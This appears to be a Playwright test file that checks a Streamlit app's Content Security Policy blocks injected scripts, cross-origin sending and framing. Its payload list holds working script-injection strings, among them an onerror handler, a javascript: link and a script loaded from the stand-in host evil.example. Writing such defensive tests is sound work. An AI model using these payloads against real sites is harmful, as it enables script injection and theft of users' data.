"""What the public meets: a page that runs no script but its own."""

import pytest
from app_page import App

#: Ways in which a text that became markup would run a script; each leaves its mark if it does.
INJECTIONS = [
    "const s = document.createElement('script'); s.textContent = 'window.ran = 1';"
    " document.body.append(s)",
    "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.ran = 1\">')",
    "document.body.insertAdjacentHTML('beforeend',"
    " '<iframe srcdoc=\"<script>parent.ran = 1</script>\"></iframe>')",
    "const a = document.createElement('a'); a.href = 'javascript:void(window.ran = 1)';"
    " document.body.append(a); a.click()",
    "setTimeout('window.ran = 1')",
    "const s = document.createElement('script'); s.src = 'https://evil.example/x.js';"
    " document.body.append(s)",
]


@pytest.fixture
def stranger(visits):
    """A page in which the policy may be broken."""
    page = visits.new_page()
    yield page
    page.close()


def test_no_script_that_got_into_the_page_is_run_and_nothing_typed_reaches_another_server(
    stranger, server
):
    app = App(stranger, server)
    for injection in INJECTIONS:
        with stranger.expect_console_message(lambda said: "Content Security Policy" in said.text):
            stranger.evaluate(f"() => {{ {injection} }}")
        assert stranger.evaluate("() => window.ran") is None
    app.click("Next step")
    assert app.step == 1
    # The same server by another name is another one to a browser.
    elsewhere = server.replace("localhost", "127.0.0.1") + "/_stcore/health"
    ask = f"() => fetch('{elsewhere}?text', {{mode: 'no-cors'}}).then(() => 1, () => 0)"
    asked = []
    stranger.on("request", lambda request: asked.append(request.url))
    assert not stranger.evaluate(ask)
    with stranger.expect_console_message(lambda said: "connect-src" in said.text):
        stranger.evaluate(f"() => {{ navigator.sendBeacon('{elsewhere}?text', 'text') }}")
    assert not [url for url in asked if "?text" in url]


def test_no_other_site_shows_the_app_in_a_frame(stranger, server):
    with stranger.expect_console_message(lambda said: "frame-ancestors" in said.text):
        stranger.set_content(f'<iframe src="{server}"></iframe>')
    assert "Streamlit" not in stranger.frames[1].content()
